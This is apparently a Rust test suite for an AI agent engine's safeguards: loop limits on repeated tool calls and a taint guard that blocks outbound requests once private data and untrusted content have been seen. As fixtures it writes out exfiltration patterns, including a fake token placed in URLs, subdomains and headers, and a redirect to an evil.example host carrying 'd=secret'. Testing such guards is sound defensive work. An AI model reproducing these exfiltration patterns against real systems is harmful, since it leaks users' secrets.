//! Loops stop, and private data does not leave through untrusted content.

use std::sync::Arc;
use std::sync::atomic::{AtomicU8, Ordering};

use haft_contract::{Access, Effect, ErrorKind, Exec, ExecHost, HttpRequest, Plan, PlanContext, TaintPolicy, ToolOutput};
use haft_engine::LoopLimits;
use haft_policy::Verdict;
use haft_testkit::{Reply, ScriptedTool};
use serde_json::json;

use crate::harness::{Harness, failure, setup, text};

#[tokio::test]
async fn the_same_call_with_the_same_outcome_is_noted_blocked_and_ends_the_run() {
    let limits = LoopLimits { note: 2, block: 4, stop: 5 };
    let tool = ScriptedTool::new("stuck").fails(ErrorKind::NetworkError, "down");
    let log = tool.log();
    let harness = setup().tool(tool).session(move |builder| builder.loop_limits(Some(limits))).build();
    let mut story = Vec::new();
    for _ in 0..5 {
        let (kind, message) = failure(&harness.call("stuck", json!({"x": 1})).await);
        story.push((kind, message.contains("Repeating it will not help"), harness.session.should_stop()));
    }
    assert_eq!(
        story,
        [
            (ErrorKind::NetworkError, false, false),
            (ErrorKind::NetworkError, true, false),
            (ErrorKind::NetworkError, true, false),
            (ErrorKind::LoopBlocked, false, false),
            (ErrorKind::LoopBlocked, false, true),
        ]
    );
    assert_eq!(log.count(), 3, "blocked calls do not run");
}

#[tokio::test]
async fn it_is_on_by_default_and_can_be_switched_off() {
    let on = setup().tool(ScriptedTool::new("same").returns("x")).build();
    let off = setup().tool(ScriptedTool::new("same").returns("x")).session(|builder| builder.loop_limits(None)).build();
    let mut outcomes = Vec::new();
    for _ in 0..6 {
        outcomes.push(on.call("same", json!({})).await.is_success());
        assert!(off.call("same", json!({})).await.is_success());
    }
    assert_eq!(outcomes, [true, true, true, true, true, false]);
}

#[tokio::test]
async fn calls_that_are_refused_before_they_are_understood_are_loops_too() {
    let schema = json!({"type": "object", "properties": {"path": {"type": "string"}}, "required": ["path"]});
    let harness = setup().tool(ScriptedTool::new("read").schema(schema)).build();
    for (tool, refused) in [("nope", ErrorKind::ToolNotFound), ("read", ErrorKind::ValidationError)] {
        let mut kinds = Vec::new();
        for _ in 0..7 {
            kinds.push(failure(&harness.call(tool, json!({})).await).0);
        }
        assert_eq!((kinds[0], kinds[6]), (refused, ErrorKind::LoopBlocked), "{tool}");
    }
}

#[tokio::test]
async fn different_pictures_are_different_outcomes() {
    let count = Arc::new(AtomicU8::new(0));
    let tool = ScriptedTool::new("screenshot").body(move |_, _| {
        let data = vec![count.fetch_add(1, Ordering::SeqCst)];
        async move { Ok(ToolOutput::text("a picture").with_image("image/png", data)) }
    });
    let harness = setup().tool(tool).build();
    for _ in 0..12 {
        assert!(harness.call("screenshot", json!({})).await.is_success());
    }
}

fn risky(policy: TaintPolicy) -> Harness {
    let fetch =
        ScriptedTool::new("fetch").plan(|_, cx| Ok(Plan::nothing().connect(cx.connect("GET", "http://example.org/")?))).returns("page");
    setup()
        .tool(ScriptedTool::new("read").plans_read().returns("secret"))
        .tool(fetch)
        .session(move |builder| builder.access(Access::FullAccess).taint(policy))
        .build()
}

#[tokio::test]
async fn private_data_and_untrusted_content_block_outbound_calls() {
    for order in [["read", "fetch"], ["fetch", "read"]] {
        let harness = risky(TaintPolicy::Ask);
        for tool in order {
            assert!(harness.call(tool, json!({"path": "a"})).await.is_success(), "{tool} in {order:?}");
        }
        let (kind, message) = failure(&harness.call("fetch", json!({"again": 1})).await);
        assert_eq!(kind, ErrorKind::PermissionDenied);
        assert!(message.contains("read private data and seen untrusted content"), "{message}");
        assert!(harness.call("read", json!({"path": "b"})).await.is_success(), "reading stays open");
    }
}

#[tokio::test]
async fn what_one_session_has_seen_counts_for_those_it_starts_and_back() {
    let call = |tool: &str, n: u64| haft_contract::ToolCall::new("c", tool, json!({"path": "a", "n": n}));
    for (parents_own, reads_below) in [(TaintPolicy::Ask, false), (TaintPolicy::Ask, true), (TaintPolicy::Deny, false)] {
        let harness = risky(parents_own);
        let parent = &harness.session;
        let builder = || haft_engine::Session::builder(Arc::clone(parent.host())).access(Access::FullAccess);
        // Whatever it asks for itself, and in whatever order.
        let child = builder().taint(TaintPolicy::Off).started_by(parent).taint(TaintPolicy::Off).build();
        let (first, second) = if reads_below { (&child, parent) } else { (parent, &child) };
        assert!(harness.engine.run(call("read", 1), first).await.is_success());
        assert!(harness.engine.run(call("fetch", 2), first).await.is_success());
        let (kind, message) = failure(&harness.engine.run(call("fetch", 3), second).await);
        assert_eq!(kind, ErrorKind::PermissionDenied);
        assert!(message.contains("read private data and seen untrusted content"), "{message}");
        assert_eq!(message.starts_with("Refused by the taint guard"), parents_own == TaintPolicy::Deny, "{message}");
    }
}

#[tokio::test]
async fn a_session_ends_with_the_one_that_started_it() {
    let harness = setup().tool(ScriptedTool::new("noop")).build();
    let parent = &harness.session;
    let builder = || haft_engine::Session::builder(Arc::clone(parent.host()));
    let own = tokio_util::sync::CancellationToken::new();
    let child = builder().started_by(parent).cancellation(own.clone()).build();
    let grandchild = builder().started_by(&child).build();
    let call = || haft_contract::ToolCall::new("c", "noop", json!({}));
    assert!(harness.engine.run(call(), &grandchild).await.is_success());
    parent.cancellation().cancel();
    for session in [&child, &grandchild] {
        assert_eq!(failure(&harness.engine.run(call(), session).await).0, ErrorKind::Cancelled);
    }
    assert!(!own.is_cancelled(), "only listened to");
}

#[tokio::test]
async fn taint_can_be_denied_outright_or_switched_off() {
    let off = risky(TaintPolicy::Off);
    let deny = risky(TaintPolicy::Deny);
    for harness in [&off, &deny] {
        harness.call("read", json!({"path": "a"})).await;
        harness.call("fetch", json!({})).await;
    }
    assert_eq!(text(&off.call("fetch", json!({"n": 2})).await), "page");
    assert!(failure(&deny.call("fetch", json!({"n": 2})).await).1.starts_with("Refused by the taint guard"));
}

#[tokio::test]
async fn a_call_that_reads_and_sends_at_once_counts_its_own_reading() {
    let both = ScriptedTool::new("leak")
        .plan(|_, cx| Ok(Plan::nothing().read(cx.locate("secret")?).connect(cx.connect("POST", "http://example.org/")?)));
    let fetch = ScriptedTool::new("fetch").plan(|_, cx| Ok(Plan::nothing().connect(cx.connect("GET", "http://example.org/")?)));
    let harness = setup().tool(both).tool(fetch).session(|builder| builder.access(Access::FullAccess).taint(TaintPolicy::Deny)).build();
    assert!(harness.call("fetch", json!({})).await.is_success());
    assert!(failure(&harness.call("leak", json!({})).await).1.starts_with("Refused by the taint guard"));
}

#[tokio::test]
async fn d13_a_program_with_network_access_reads_private_data_itself() {
    let connect = |cx: &PlanContext<'_>| cx.connect("CONNECT", "https://example.org/");
    let fetch = ScriptedTool::new("fetch").plan(move |_, cx| Ok(Plan::nothing().connect(connect(cx)?)));
    let sandboxed = || {
        let mut exec = Exec::new("/bin/cat", Vec::new(), "/workspace");
        exec.host = ExecHost::Sandbox;
        Plan::nothing().with(Effect::Exec(exec))
    };
    let upload = ScriptedTool::new("upload").plan(move |_, cx| Ok(sandboxed().connect(connect(cx)?)));
    let count = ScriptedTool::new("count").plan(move |_, _| Ok(sandboxed()));
    let harness =
        setup().tool(fetch).tool(upload).tool(count).session(|builder| builder.access(Access::FullAccess).taint(TaintPolicy::Deny)).build();
    assert!(harness.call("fetch", json!({})).await.is_success());
    assert!(failure(&harness.call("upload", json!({})).await).1.starts_with("Refused by the taint guard"));
    assert!(harness.call("count", json!({})).await.is_success(), "without network access it stays open");
}

#[tokio::test]
async fn d13_a_secret_in_the_arguments_does_not_go_out_unasked() {
    let key = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";
    let long = format!("{} {key}", "x".repeat(100_000));
    let harness = |policy| {
        let send = ScriptedTool::new("send").plan(|_, cx| Ok(Plan::nothing().connect(cx.connect("GET", "http://example.org/")?)));
        let stay = ScriptedTool::new("stay").plans_read();
        setup().tool(send).tool(stay).session(move |builder| builder.access(Access::FullAccess).taint(policy)).build()
    };
    for (tool, arguments, is_guarded) in [
        ("send", json!({"path": "a", "url": format!("http://example.org/?k={key}")}), true),
        ("send", json!({"path": "a", "url": format!("http://{key}.example.org/")}), true),
        ("send", json!({"path": "a", "body": {"parts": [1, long]}}), true),
        ("send", json!({"path": "a", "headers": {key: "x"}}), true),
        ("send", json!({"path": "a", "headers": {"Authorization": format!("Bearer {key}")}}), false),
        ("send", json!({"path": "a", "url": "http://example.org/?k=v"}), false),
        ("stay", json!({"path": "a", "text": key}), false),
    ] {
        let why = "its arguments hold a secret (github_token), and this call could send it out";
        let explained = harness(TaintPolicy::Ask);
        let explained = explained.engine.explain(tool, Some(arguments.clone().into()), &explained.session).await.unwrap();
        assert_eq!(explained.verdict == Verdict::Ask, is_guarded, "{tool} {:?}", explained.trace);
        for (policy, message) in [
            (TaintPolicy::Ask, is_guarded.then(|| format!("This call needs approval ({why})"))),
            (TaintPolicy::Deny, is_guarded.then(|| format!("Refused by the taint guard: {why}. Make it without the secret."))),
            (TaintPolicy::Off, None),
        ] {
            let result = harness(policy).call(tool, arguments.clone()).await;
            match message {
                Some(message) => assert!(failure(&result).1.starts_with(&message), "{:?}", failure(&result)),
                None => assert!(result.is_success(), "{policy:?} {tool}"),
            }
        }
    }
}

#[tokio::test]
async fn a_redirect_counts_as_an_outbound_connection() {
    let fetch = ScriptedTool::new("fetch").plan(|_, cx| Ok(Plan::nothing().connect(cx.connect("GET", "http://good.example/")?))).body(
        |_, cx| async move {
            let request =
                HttpRequest { method: "GET".into(), url: "http://good.example/".into(), headers: vec![], body: None, redirects: 3 };
            cx.http().send(request).await.map(|response| ToolOutput::text(response.url))
        },
    );
    let read = ScriptedTool::new("read").plans_read();
    let harness = setup().built_in(fetch).built_in(read).session(|builder| builder.access(Access::FullAccess)).build();
    harness.host.http.answer("GET", "http://good.example/", Reply::redirect("http://evil.example/?d=secret"));
    harness.host.http.answer("GET", "http://evil.example/?d=secret", Reply::ok("text/plain", "x"));
    assert!(harness.call("read", json!({"path": "a"})).await.is_success());
    let (kind, message) = failure(&harness.call("fetch", json!({})).await);
    assert_eq!(kind, ErrorKind::PermissionDenied);
    assert!(message.contains("evil.example") && message.contains("needs approval"), "{message}");
}
